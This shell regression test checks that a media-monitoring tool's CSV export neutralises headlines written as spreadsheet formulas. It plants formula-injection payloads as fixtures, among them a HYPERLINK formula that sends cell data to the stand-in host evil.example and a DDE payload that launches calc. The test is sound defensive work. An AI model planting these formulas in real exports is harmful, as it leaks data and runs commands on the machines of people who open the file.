#!/bin/sh
# 0480-csv-injection: a headline written to be a spreadsheet formula
# (issue 16).  Exported as CSV, every cell that starts with = + - @ TAB or
# CR gets a leading apostrophe inside quotes (OWASP's rule), so a
# spreadsheet shows it and runs nothing; numbers such as -27 stay numbers.
. "$(dirname "$0")/../lib.sh"
start_pg
mm db migrate >/dev/null

cat >"$TRASH/sources.yaml" <<EOF
version: 1
reviewed: 2026-11-20
sources:
  - { name: evil, url: "http://evil.example/rss" }
EOF
export MEDIAMON_SOURCES="$TRASH/sources.yaml"

test_expect 'formula headlines are neutralised in the CSV export' '
	sql "INSERT INTO sources (name, url, type) VALUES
	     (${q}evil${q}, ${q}http://evil.example/rss${q}, ${q}rss${q})" &&
	sql "INSERT INTO articles (source_id, url, canonical_url, title, text, lang, page_status)
	     SELECT id, u, u, t, ${q}-27 degrees${q}, ${q}ru${q}, ${q}fetched${q}
	     FROM sources, (VALUES
	       (${q}http://evil.example/1${q}, ${q}=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")${q}),
	       (${q}http://evil.example/2${q}, ${q}+cmd|${q}${q} /C calc${q}${q}!A0${q}),
	       (${q}http://evil.example/3${q}, ${q}@SUM(1+1)${q}),
	       (${q}http://evil.example/4${q}, E${q}\\tTAB${q}),
	       (${q}http://evil.example/5${q}, ${q}-27${q})) AS v(u, t)
	     WHERE name = ${q}evil${q}" &&
	mm export articles --format csv >out.csv && cat out.csv &&
	grep -q "\"${q}=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"" out.csv &&
	grep -q "\"${q}+cmd|${q} /C calc${q}!A0\"" out.csv &&
	grep -q "\"${q}@SUM(1+1)\"" out.csv &&
	grep -q "\"${q}	TAB\"" out.csv &&
	grep -q ",-27," out.csv &&
	! grep -q ",=HYPERLINK\|,+cmd\|,@SUM" out.csv &&
	python3 -c "
import csv
rows = list(csv.reader(open(\"out.csv\", newline=\"\")))
titles = [r[3] for r in rows[1:]]
assert all(not t or t[0] not in \"=+@\t\r\" for t in titles), titles
assert \"-27\" in titles, titles
"
'

finish
